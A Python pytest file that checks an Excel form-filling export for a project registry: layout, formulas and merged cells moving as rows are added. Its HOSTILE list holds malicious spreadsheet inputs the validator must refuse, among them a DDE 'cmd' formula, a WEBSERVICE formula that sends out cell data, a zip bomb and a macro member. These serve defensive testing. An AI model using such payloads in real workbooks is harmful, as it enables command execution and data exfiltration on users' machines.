"""An office's own form: filled with its looks kept, its formulas moved, and hostile ones refused."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import Border, Font, Side
from openpyxl.workbook import Workbook
from openpyxl.worksheet.datavalidation import DataValidation
from sqlalchemy.orm import Session

from projects.errors import BadInput
from projects.exports.form_check import MOST_BYTES
from projects.exports.form_sheet import fill_form, judge_form
from projects.exports.job import Job
from projects.exports.publisher import Publisher
from projects.reading.filters import ProjectFilter
from projects.reading.selection import open_selection
from projects.registry.rollup import recount
from tests.projects.exports.conftest import SHUANGTA
from tests.support.factories import make_project

PLANNED = ProjectFilter(code=("LT-211302-0004", "LT-211302-0005"))
NONE = ProjectFilter(q="没有这样的项目")


def bytes_of(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def make_form(change: Callable[[Workbook], None] | None = None) -> bytes:
    """Return a form as an upper office sends it: title, headings, one row, a total, a foot."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "附表"
    sheet.merge_cells("A1:F1")
    sheet["A1"] = "{{标题}}({{日期}})"
    sheet["A1"].font = Font(name="方正小标宋简体", size=22, bold=True)
    sheet["A2"] = "填报单位:{{单位}}"
    for column, title in zip(
        "ABCDEF", ("序号", "名称", "总投资(亿元)", "占比", "备注", "备注二"), strict=True
    ):
        sheet[f"{column}3"] = title
    sheet["A4"], sheet["B4"], sheet["C4"] = "{{序号}}", "{{项目名称}}", "{{总投资|亿元}}"
    sheet["D4"] = "=C4/C$5"
    sheet["E4"] = "{{建设地点}}、{{县区}}"
    sheet.merge_cells("E4:F4")
    sheet["C4"].number_format = "0.0000"
    for column in "ABCDEF":
        sheet[f"{column}4"].border = Border(bottom=Side("thin"))
    sheet.row_dimensions[4].height = 33
    sheet["B5"], sheet["C5"] = "合计", "=SUM(C4:C4)"
    sheet["C6"], sheet["D6"] = "{{合计.总投资|亿元}}", "{{合计.项目数}}"
    sheet.merge_cells("A7:F7")
    sheet["A7"] = "注:{{筛选条件}};{{没有的标记}}"
    sheet.row_dimensions[7].height = 44
    sheet.print_area = "A1:F7"
    check = DataValidation(type="list", formula1='"甲,乙"')
    check.add("E4")
    sheet.add_data_validation(check)
    other = book.create_sheet("汇总")
    other["A1"] = "=附表!C5"
    if change:
        change(book)
    return bytes_of(book)


def filled(session: Session, form: bytes, wanted: ProjectFilter = PLANNED, sort: str = "") -> Workbook:
    job = Job(
        session,
        open_selection(session, wanted),
        as_of_words="2026-11-27",
        publisher=Publisher("朝阳市发展和改革委员会"),
    )
    return openpyxl.load_workbook(io.BytesIO(fill_form(job, form, sort)))


def rows(sheet: Any, first: int, last: int) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows(first, last)]


def test_its_row_repeats_and_everything_below_moves(small_registry: Session) -> None:
    sheet = filled(small_registry, make_form())["附表"]
    assert sheet["A1"].value == "重大项目清单(2026-11-27)"
    assert sheet["A2"].value == "填报单位:朝阳市发展和改革委员会"
    first, second = rows(sheet, 4, 5)
    assert first[:4] == [1, "冲突园区", 0.02, "=C4/C$6"]
    assert second[:4] == [2, "三县共建水库", 0.01, "=C5/C$6"]
    assert sheet["C6"].value == "=SUM(C4:C5)"
    assert (sheet["C7"].value, sheet["D7"].value) == (0.03, 2)
    assert sheet["A8"].value == "注:筛选条件：选定的 2 个项目;{{没有的标记}}"


def test_looks_heights_and_merged_cells_move_too(small_registry: Session) -> None:
    sheet = filled(small_registry, make_form())["附表"]
    assert {str(one) for one in sheet.merged_cells.ranges} == {"A1:F1", "E4:F4", "E5:F5", "A8:F8"}
    assert [sheet.row_dimensions[at].height for at in (4, 5, 8)] == [33, 33, 44]
    assert sheet["C5"].number_format == "0.0000"
    assert sheet["B5"].border.bottom.style == "thin"
    assert sheet["A1"].font.name == "方正小标宋简体"
    assert sheet.print_area.replace("'", "").replace("$", "") == "附表!A1:F8"
    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["E4:E5"]


def test_formulas_of_other_sheets_follow(small_registry: Session) -> None:
    assert filled(small_registry, make_form())["汇总"]["A1"].value == "=附表!C6"


@pytest.mark.parametrize("wanted", [NONE, ProjectFilter(code=("LT-211302-0004",))])
def test_none_and_one_keep_the_form_as_it_is(small_registry: Session, wanted: ProjectFilter) -> None:
    sheet = filled(small_registry, make_form(), wanted)["附表"]
    assert sheet["C5"].value == "=SUM(C4:C4)"
    assert sheet["B4"].value == (None if wanted.q else "冲突园区")
    assert sheet["D6"].value == (0 if wanted.q else 1)
    assert sheet["C6"].value == ("未载明" if wanted.q else 0.02)


def test_units_are_exact(small_registry: Session) -> None:
    make_project(
        small_registry,
        "单位",
        figures=["12345.6789"],
        land_m2=Decimal(2000),
        length_km=Decimal("1.5"),
        code="LT-211302-0200",
    )
    recount(small_registry)

    def mark(book: Workbook) -> None:
        for column, words in zip(
            "ABCDEF",
            (
                "{{总投资|元}}",
                "{{总投资}}",
                "{{占地面积|亩}}",
                "{{占地面积|公顷}}",
                "{{长度|米}}",
                "{{总投资|亿元}}亿元",
            ),
            strict=True,
        ):
            book["附表"].unmerge_cells("E4:F4") if column == "A" else None
            book["附表"][f"{column}4"] = words

    wanted = ProjectFilter(code=("LT-211302-0200",))
    (found,) = rows(filled(small_registry, make_form(mark), wanted)["附表"], 4, 4)
    assert found == [123456789, 12345.6789, 3, 0.2, 1500, "1.23456789亿元"]


@pytest.mark.parametrize(
    "name", ["=1+1", "{{日期}}", "{{总投资}}", "\x07铃", '=HYPERLINK("http://x")', "<b>&"]
)
def test_what_data_says_is_only_text(small_registry: Session, name: str) -> None:
    make_project(small_registry, name, code="LT-211302-0300")
    sheet = filled(small_registry, make_form(), ProjectFilter(code=("LT-211302-0300",)))["附表"]
    assert sheet["B4"].value == name.replace("\x07", "")
    assert sheet["B4"].data_type == "s"


def test_marks_are_told_with_what_they_mean() -> None:
    marks = judge_form(make_form())
    told = {mark.text: (mark.cell, mark.is_known, mark.meaning) for mark in marks.marks}
    assert told["{{总投资|亿元}}"] == ("C4", True, "逐项目:总投资(亿元)")
    assert told["{{合计.项目数}}"] == ("D6", True, "合计:项目数")
    assert told["{{没有的标记}}"][:2] == ("A7", False)
    assert marks.faults == []


@pytest.mark.parametrize(
    ("text", "near"),
    [
        ("{{总投姿}}", "总投资"),
        ("{{总投资|美元}}", "{{总投资|亿元}}"),
        ("{{项目名称|亿元}}", "{{项目名称}}"),
        ("{{合计.项目名称}}", ""),
        ("{{日期|亿元}}", ""),
    ],
)
def test_what_an_unknown_mark_may_mean_is_told(text: str, near: str) -> None:
    def mark(book: Workbook) -> None:
        book["附表"]["B4"] = text

    (found,) = [one for one in judge_form(make_form(mark)).marks if one.text == text]
    assert not found.is_known
    assert near in found.meaning


def test_two_rows_of_marks_are_a_fault(small_registry: Session) -> None:
    def mark(book: Workbook) -> None:
        book["附表"]["B5"] = "{{项目名称}}"

    (fault,) = judge_form(make_form(mark)).faults
    assert "第 4、5 行" in fault.message % fault.values
    with pytest.raises(BadInput):
        filled(small_registry, make_form(mark))


def with_member(form: bytes, name: str, body: bytes) -> bytes:
    buffer = io.BytesIO(form)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, body)
    return buffer.getvalue()


def formula(text: str) -> bytes:
    def mark(book: Workbook) -> None:
        book["附表"]["F6"] = text

    return make_form(mark)


def without_marks() -> bytes:
    book = Workbook()
    assert book.active is not None
    book.active["A1"] = "没有标记"
    return bytes_of(book)


def too_wide() -> bytes:
    def mark(book: Workbook) -> None:
        book["附表"].cell(4, 16_000, "x")

    return make_form(mark)


HOSTILE: list[tuple[Callable[[], bytes], str]] = [
    (lambda: b"", "要是 .xlsx"),
    (lambda: b"<html><table></table></html>", "要是 .xlsx"),
    (lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "旧格式 .xls"),
    (lambda: b"PK\x03\x04" + b"\x00" * 100, "打不开"),
    (lambda: make_form()[:-200], "打不开"),
    (lambda: b"PK\x03\x04" + b"x" * MOST_BYTES, "不能超过 2 MB"),
    (lambda: with_member(make_form(), "xl/media/bomb.bin", b"\x00" * 45_000_000), "展开后太大"),
    (lambda: with_member(make_form(), "xl/vbaProject.bin", b"x"), "宏"),
    (lambda: with_member(make_form(), "xl/externalLinks/externalLink1.xml", b"<a/>"), "引用了别的文件"),
    (
        lambda: with_member(make_form(), "xl/evil.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "不该有的定义",
    ),
    (lambda: formula('=WEBSERVICE("http://x/"&A1)'), "F6"),
    (lambda: formula("=cmd|'/c calc'!A0"), "F6"),
    (lambda: formula("='[1]别处'!A1"), "F6"),
    (too_wide, "太大"),
    (without_marks, "没有标记"),
]


@pytest.mark.parametrize(("make", "words"), HOSTILE)
def test_a_hostile_form_is_refused_plainly(make: Callable[[], bytes], words: str) -> None:
    with pytest.raises(BadInput) as refused:
        judge_form(make())
    assert refused.value.field == "form"
    assert words in refused.value.message % refused.value.values


def test_a_long_list_is_filled_in_its_order(small_registry: Session) -> None:
    for number in range(300):
        make_project(small_registry, f"第{number}个", [SHUANGTA], figures=[number])
    recount(small_registry)
    wanted = ProjectFilter(q="个", district=(SHUANGTA,))
    sheet = filled(small_registry, make_form(), wanted, "-investment")["附表"]
    names = [sheet.cell(4 + at, 2).value for at in range(300)]
    assert names == [f"第{number}个" for number in reversed(range(300))]
    assert sheet["C304"].value == "=SUM(C4:C303)"
